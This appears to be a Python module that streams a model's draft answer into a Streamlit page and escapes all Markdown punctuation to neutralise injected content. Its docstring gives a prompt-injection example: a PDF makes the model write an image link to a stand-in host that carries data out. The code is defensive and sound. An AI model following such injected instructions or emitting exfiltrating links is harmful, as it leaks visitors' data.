"""Streaming a run's answer into the page while the engine works (openai backend).

The engine runs in a worker thread with ``engine.stream_answer_text`` set; the script thread drains a
queue: text pieces go to ``st.write_stream`` as the model writes them, progress events to the
caller's status box. The streamed text is the model's draft; the verified answer, citations and
highlights are shown from the run's result afterwards.

The model's text is untrusted (a prompt injection inside an uploaded PDF can make the model write
``![x](https://host/?q=...)``, and a Markdown renderer would make the visitor's browser fetch that URL), so every
piece is escaped before ``write_stream`` renders it: see ``literal``.
"""

from __future__ import annotations

import queue
import string
import threading
from collections.abc import Callable, Iterator
from typing import Any

import engine
from engine import ProgressEvent, RunResult

Progress = Callable[[ProgressEvent], None]
_DONE = object()
_PUNCTUATION = {ord(c): "\\" + c for c in string.punctuation}
"""Every ASCII punctuation character, backslash-escaped (CommonMark lets any of them be escaped, and an escaped
one renders as itself)."""


def literal(piece: str) -> str:
    """A piece of streamed model text that Markdown (Streamlit's, GitHub's, CommonMark) shows as it is.

    Every ASCII punctuation character is backslash-escaped, so no image, link, autolink, HTML, emphasis,
    heading, list, LaTeX or Streamlit directive can form, whatever the piece before or after it held: the
    escaping is per character, so pieces escaped one by one join into the escaped whole (``engine``'s
    ``escape_inline`` needs whole lines, which a stream does not have). Carriage returns and tabs become spaces;
    line breaks stay.
    """
    return piece.replace("\r", " ").replace("\t", " ").translate(_PUNCTUATION)


def run_streaming(run: Callable[[Progress], RunResult], progress: Progress, draft: Any) -> RunResult:
    """``run(progress)`` in a worker thread; the answer's text streams into ``draft`` (a container).

    Raises whatever ``run`` raised, in the script thread.
    """
    events: queue.Queue[tuple[str, Any]] = queue.Queue()
    outcome: dict[str, Any] = {}

    def work() -> None:
        try:
            with engine.stream_answer_text(lambda text: events.put(("text", text))):
                outcome["result"] = run(lambda event: events.put(("progress", event)))
        except BaseException as error:  # handed to the script thread, which reports it
            outcome["error"] = error
        finally:
            events.put(("done", _DONE))

    worker = threading.Thread(target=work, name="loupe-answer", daemon=True)
    worker.start()
    draft.write_stream(_pieces(events, progress))
    worker.join()
    if "error" in outcome:
        raise outcome["error"]
    return outcome["result"]


def _pieces(events: queue.Queue[tuple[str, Any]], progress: Progress) -> Iterator[str]:
    """Text pieces for ``st.write_stream``; progress events are shown on the way; a new answer pass
    starts a new paragraph."""
    streamed = False
    while True:
        kind, item = events.get()
        if item is _DONE:
            return
        if kind == "progress":
            progress(item)
            if item.stage == "answer" and streamed:
                yield "\n\n"
            continue
        streamed = True
        yield literal(item)
